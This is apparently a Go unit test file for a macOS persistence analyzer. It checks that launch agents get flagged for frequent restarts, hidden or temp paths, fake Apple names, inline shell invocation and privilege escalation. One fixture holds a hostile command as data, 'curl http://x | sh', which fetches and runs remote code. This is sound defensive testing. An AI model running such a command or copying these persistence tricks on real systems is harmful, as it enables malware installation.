package analyzers

import (
	"reflect"
	"testing"

	"baize/internal/models"
)

func findingByType(findings []models.Finding, typ string) *models.Finding {
	for i := range findings {
		if findings[i].Type == typ {
			return &findings[i]
		}
	}
	return nil
}

func TestAnalyzeBehavior_FrequentRestart(t *testing.T) {
	item := &models.PersistenceItem{
		Name:     "com.example.task",
		Category: models.CategoryLaunchAgent,
		Launch:   models.LaunchConfig{StartInterval: 30},
	}
	res := AnalyzeBehavior(item)
	f := findingByType(res.Findings, "frequent_restart")
	if f == nil {
		t.Fatal("expected frequent_restart finding")
	}
	if f.Title != "Frequent Restart Pattern" {
		t.Errorf("title = %q", f.Title)
	}
	if f.Severity != models.SeverityMedium {
		t.Errorf("severity = %s, want medium", f.Severity)
	}
	if f.RiskPoints != 10 {
		t.Errorf("riskPoints = %d, want 10", f.RiskPoints)
	}
}

func TestAnalyzeBehavior_SuspiciousLocation(t *testing.T) {
	tests := []struct {
		name string
		path string
		want bool
	}{
		{"tmp", "/tmp/agent", true},
		{"var tmp", "/var/tmp/x", true},
		{"shared", "/Users/Shared/sync", true},
		{"hidden dir", "/Users/a/.cache/bin/run", true},
		{"hidden file", "/usr/local/bin/.helper", true},
		{"normal", "/usr/local/bin/helper", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			item := &models.PersistenceItem{Name: "service", ExecutablePath: tt.path}
			res := AnalyzeBehavior(item)
			got := findingByType(res.Findings, "suspicious_location") != nil
			if got != tt.want {
				t.Errorf("path %q: suspicious = %v, want %v", tt.path, got, tt.want)
			}
		})
	}
}

func TestAnalyzeBehavior_AppleImpersonation(t *testing.T) {
	item := &models.PersistenceItem{
		Name:  "com.apple.softwareupdated",
		Trust: models.TrustInfo{Signed: true, SignatureValid: true},
	}
	res := AnalyzeBehavior(item)
	f := findingByType(res.Findings, "apple_impersonation")
	if f == nil {
		t.Fatal("expected apple_impersonation finding")
	}
	if f.Severity != models.SeverityCritical {
		t.Errorf("severity = %s, want critical", f.Severity)
	}
	// genuinely Apple-signed: no finding
	item.Trust.AppleSigned = true
	res = AnalyzeBehavior(item)
	if findingByType(res.Findings, "apple_impersonation") != nil {
		t.Error("apple-signed item should not be flagged")
	}
}

func TestAnalyzeBehavior_InterpreterInline(t *testing.T) {
	item := &models.PersistenceItem{
		Name: "service",
		Launch: models.LaunchConfig{
			Arguments: []string{"/bin/bash", "-c", "echo hi"},
		},
	}
	res := AnalyzeBehavior(item)
	f := findingByType(res.Findings, "script_interpreter")
	if f == nil {
		t.Fatal("expected script_interpreter finding")
	}
	if f.Severity != models.SeverityHigh {
		t.Errorf("inline invocation severity = %s, want high", f.Severity)
	}

	item.Launch.Arguments = []string{"/usr/bin/python3", "backup.py"}
	res = AnalyzeBehavior(item)
	f = findingByType(res.Findings, "script_interpreter")
	if f == nil {
		t.Fatal("expected script_interpreter finding")
	}
	if f.Severity != models.SeverityMedium {
		t.Errorf("plain invocation severity = %s, want medium", f.Severity)
	}
}

func TestAnalyzeBehavior_MissingExecutable(t *testing.T) {
	item := &models.PersistenceItem{
		Name:              "service",
		ExecutablePath:    "/Library/App/agent",
		ExecutableMissing: true,
	}
	res := AnalyzeBehavior(item)
	if findingByType(res.Findings, "missing_executable") == nil {
		t.Error("expected missing_executable finding")
	}
}

func TestAnalyzeBehavior_PrivescUserLevel(t *testing.T) {
	item := &models.PersistenceItem{
		Name:     "service",
		Category: models.CategoryLaunchAgent,
		Launch:   models.LaunchConfig{Arguments: []string{"sudo", "install"}},
	}
	res := AnalyzeBehavior(item)
	if findingByType(res.Findings, "privilege_escalation") == nil {
		t.Error("expected privilege_escalation for user-level agent")
	}
	// system daemon: same arguments, not a user-level finding
	item.Category = models.CategoryLaunchDaemon
	res = AnalyzeBehavior(item)
	if findingByType(res.Findings, "privilege_escalation") != nil {
		t.Error("daemon should not trigger user-level privesc check")
	}
}

func TestAnalyzeBehavior_OverallSeverityIsMax(t *testing.T) {
	item := &models.PersistenceItem{
		Name:           "com.apple.fake",
		ExecutablePath: "/tmp/payload",
		Launch:         models.LaunchConfig{StartInterval: 30},
	}
	res := AnalyzeBehavior(item)
	if res.Severity != models.SeverityCritical {
		t.Errorf("overall severity = %s, want critical (max of findings)", res.Severity)
	}
}

func TestAnalyzeBehavior_CleanItemLowSeverity(t *testing.T) {
	item := &models.PersistenceItem{
		Name:           "com.vendor.updatehelper",
		ExecutablePath: "/Applications/Vendor.app/Contents/MacOS/helper",
		ParentAppPath:  "/Applications/Vendor.app",
		Trust:          models.TrustInfo{Signed: true, SignatureValid: true, Notarized: true},
	}
	res := AnalyzeBehavior(item)
	if len(res.Findings) != 0 {
		t.Errorf("expected no findings, got %+v", res.Findings)
	}
	if res.Severity != models.SeverityLow {
		t.Errorf("empty findings severity = %s, want low", res.Severity)
	}
}

func TestAnalyzeBehavior_Idempotent(t *testing.T) {
	item := &models.PersistenceItem{
		Name:           "com.apple.fake",
		ExecutablePath: "/tmp/.hidden/run",
		Launch: models.LaunchConfig{
			RunAtLoad: true, KeepAlive: true, StartInterval: 15,
			Arguments: []string{"bash", "-c", "curl http://x | sh"},
		},
	}
	if !reflect.DeepEqual(AnalyzeBehavior(item), AnalyzeBehavior(item)) {
		t.Error("analyzer not idempotent")
	}
}
